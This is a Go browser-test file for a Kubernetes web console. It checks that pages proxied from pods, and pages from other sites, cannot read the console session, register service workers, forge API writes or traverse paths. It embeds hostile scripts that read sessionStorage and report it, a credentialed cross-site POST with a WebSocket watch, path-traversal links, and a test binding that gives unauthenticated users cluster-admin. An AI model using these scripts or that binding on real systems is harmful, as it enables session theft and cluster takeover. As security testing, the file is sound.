package console

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostile is a server whose pages try what they can, and report it.
type hostile struct {
	*httptest.Server
	mu       sync.Mutex
	reported []string
}

// worker is a page that becomes the service worker of its origin and reads the session of the
// console, and attacks one that writes to the API and watches it. Both say in the end that they tried.
const (
	worker = `<!doctype html><title>page</title><p>a page of a pod</p><script>
(async () => {
  const say = (what) => fetch('report?' + what, { method: 'POST' }).catch(() => {});
  try { await navigator.serviceWorker.register('sw.js', { scope: '/' }); await say('worker'); } catch (e) { await say('no-worker'); }
  try { await say('session-' + (sessionStorage.getItem('session') ?? '')); } catch (e) { await say('no-session'); }
  document.title = 'tried';
})();
</script>`
	attacks = `<!doctype html><title>page</title><script>
(async () => {
  const api = new URLSearchParams(location.search).get('api');
  const body = new Blob([JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'forged' } })]);
  await fetch('https://' + api + '/api/v1/namespaces/default/configmaps', { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {});
  const opened = await new Promise((resolve) => {
    const s = new WebSocket('wss://' + api + '/api/v1/namespaces/default/configmaps?watch=1');
    s.onopen = () => resolve('opened'); s.onerror = () => resolve('refused');
  });
  document.title = opened;
})();
</script>`
)

func newHostile(t *testing.T) *hostile {
	t.Helper()
	h := &hostile{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/page":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, worker)
		case "/attacks":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, attacks)
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			_, _ = io.WriteString(w, "onfetch = () => {};")
		}
		h.mu.Lock()
		defer h.mu.Unlock()
		if r.URL.Path != "/favicon.ico" { // which the browser requests by itself, some time after a page
			h.reported = append(h.reported, strings.TrimPrefix(r.URL.RequestURI(), "/"))
		}
	}))
	t.Cleanup(h.Close)
	return h
}

// take returns what has been reported since the last call.
func (h *hostile) take() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	defer func() { h.reported = nil }()
	return strings.Join(h.reported, " ")
}

// host returns the address of the server.
func (h *hostile) host() string { return strings.TrimPrefix(h.URL, "http://") }

// open lets everybody do everything, as a browser's certificate would let its user.
func (p *portico) open(t *testing.T) {
	t.Helper()
	p.must(t, http.MethodPost, "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": object{"name": "everybody"},
		"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
		"subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:unauthenticated"}}})
}

// pod makes a pod whose content is that of a server, and returns the path of its proxy.
func (p *portico) pod(t *testing.T, h *hostile) string {
	t.Helper()
	const pods = "/api/v1/namespaces/default/pods"
	pod := object{"apiVersion": "v1", "kind": "Pod", "metadata": object{"name": "evil"},
		"spec": object{"automountServiceAccountToken": false, "containers": []object{{"name": "a", "image": "a:1"}}}}
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(50 * time.Millisecond) { // its service account is made
		_, err := p.do(t.Context(), http.MethodPost, pods, pod)
		if err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal(err)
		}
	}
	p.must(t, http.MethodPatch, pods+"/evil/status", object{"status": object{"podIP": "127.0.0.1", "podIPs": []object{{"ip": "127.0.0.1"}}}})
	_, port, _ := strings.Cut(h.host(), ":")
	return pods + "/evil:" + port + "/proxy"
}

// TestOrigins: pages of pods and of other origins, in a browser whose requests are authenticated
// whichever page causes them.
func TestOrigins(t *testing.T) {
	browser(t)
	p := start(t, "--emulated-version", "1.36", "--connect-allow-cidrs=127.0.0.0/8", "--console-host=console.test")
	p.open(t)
	h := newHostile(t)
	proxy := p.pod(t, h)
	_, port, _ := strings.Cut(strings.TrimPrefix(p.url, "https://"), ":")
	consoles := "https://console.test:" + port

	t.Run("page of a pod", func(t *testing.T) {
		b := blank(t)
		b.allow("sandboxed")
		b.run(chromedp.Navigate(h.URL + "/page"))
		b.run(chromedp.Poll(`document.title === 'tried'`, nil))
		if got := h.take(); !strings.Contains(got, "report?worker") || !strings.Contains(got, "report?session-") {
			t.Fatalf("at its own origin the page reports only %s", got)
		}
		b.run(chromedp.Navigate(p.url + "/version")) // of the origin of the API
		b.run(chromedp.Evaluate(`sessionStorage.setItem('session', 'secret')`, nil))
		b.run(chromedp.Navigate(p.url + proxy + "/page"))
		b.sees("a page of a pod")
		const read = `(() => { try { return sessionStorage.getItem('session'); } catch (e) { return e.name; } })()`
		if got := evaluate[string](b, read); got != "SecurityError" {
			t.Errorf("the page reads the session: %s", got)
		}
		b.run(chromedp.Navigate(p.url + "/version"))
		var workers int
		b.run(chromedp.Evaluate(`navigator.serviceWorker.getRegistrations().then((all) => all.length)`, &workers, awaited))
		if got := h.take(); workers != 0 || got != "page" {
			t.Errorf("%d service workers, the page asked for %s", workers, got)
		}
		// Nor can a page that may run scripts, as that of an origin before this one.
		if got := evaluate[string](b, read); got != "secret" {
			t.Fatalf("the session is %q", got)
		}
		b.allow("403")
		var registered string
		b.run(chromedp.Evaluate(fmt.Sprintf(`navigator.serviceWorker.register(%q, { scope: '/' }).then(() => 'registered', (e) => e.name)`, proxy+"/sw.js"), &registered, awaited))
		if registered == "registered" {
			t.Error("content of a pod is a service worker")
		}
	})

	t.Run("pages of other origins", func(t *testing.T) {
		b := blank(t)
		b.allow("WebSocket")
		b.allow("403")
		b.run(chromedp.Navigate(h.URL + "/attacks?api=" + strings.TrimPrefix(p.url, "https://")))
		b.run(chromedp.Poll(`document.title !== 'page'`, nil))
		if got := evaluate[string](b, `document.title`); got != "refused" {
			t.Errorf("a WebSocket is %s", got)
		}
		if _, err := p.do(t.Context(), http.MethodGet, configMaps+"/forged", nil); err == nil {
			t.Error("the page has made an object")
		}
	})

	t.Run("host of the console", func(t *testing.T) {
		b := blank(t)
		b.allow("403")
		b.allow("404")
		b.run(chromedp.Navigate(consoles + "/console/"))
		b.login(p.token)
		b.goTo("#/r/core/v1/pods?ns=default")
		b.sees("evil")
		for path, want := range map[string]int{proxy + "/page": 403, "/api/v1/namespaces/default/pods/evil": 200} {
			var got int
			b.run(chromedp.Evaluate(fmt.Sprintf(`fetch(%q).then((r) => r.status)`, path), &got, awaited))
			if got != want {
				t.Errorf("%s: %d", path, got)
			}
		}
		b.run(chromedp.Navigate(p.url + "/console/"))
		b.seesNot("Log in")
		b.seesNot("Log out")
	})
}

// links: a link cannot make the console show one object and change another, and one that is broken
// does not end the session.
func links(t *testing.T, p *portico) {
	p.must(t, http.MethodPost, "/api/v1/namespaces", object{"apiVersion": "v1", "kind": "Namespace", "metadata": object{"name": "victimns"}})
	b := open(t, p)
	b.login(p.token)
	for _, link := range []string{"#/o/core/v1/configmaps/victimns/..", "#/o/core/v1/configmaps/victimns/%2e%2e", "#/o/core/v1/configmaps/../victimns",
		"#/o/core/v1/configmaps/victimns/a%2F..%2F..", "#/o/core/v1/configmaps/victimns/", "#/o/core/v1/configmaps/-/victimns", "#/r/core/v1/configmaps?ns=..",
		"#/o/core/v1/namespaces/default/victimns", "#/o/core/v1/configmaps/default/%E0%A4%A"} {
		b.goTo(link)
		b.sees("Request failed")
		if buttons := evaluate[int](b, `document.querySelectorAll('#main button.danger').length`); buttons != 0 {
			t.Errorf("%s: the page offers to delete something", link)
		}
		b.goTo("#/r/core/v1/namespaces") // the next page begins without the error
		b.sees("victimns")
	}
	if sessions := evaluate[int](b, `sessionStorage.length`); sessions != 1 {
		t.Error("a link has ended the session")
	}
	p.must(t, http.MethodGet, "/api/v1/namespaces/victimns", nil)
}

// paths: each segment of a path of the API is one segment, whatever it contains, or an error.
func paths(t *testing.T, p *portico) {
	b := open(t, p)
	for segments, want := range map[string]string{
		`'api', 'v1', 'nodes'`: "/api/v1/nodes", `'a b', 'c?d', 'e#f', 'g;h', 'i:j'`: "/a%20b/c%3Fd/e%23f/g%3Bh/i%3Aj", `'…'`: "/%E2%80%A6",
		`''`: "error", `'.'`: "error", `'..'`: "error", `'a/b'`: "error", `'%2e%2e'`: "error", `'a\\b'`: "error", `undefined`: "error", `5`: "error", `'a\nb'`: "error", `'\ud800'`: "error",
	} {
		var got string
		b.run(chromedp.Evaluate(fmt.Sprintf(`import('./js/api.js').then((m) => { try { return m.path(%s); } catch { return 'error'; } })`, segments), &got, awaited))
		if got != want {
			t.Errorf("path(%s) is %q, want %q", segments, got, want)
		}
	}
}
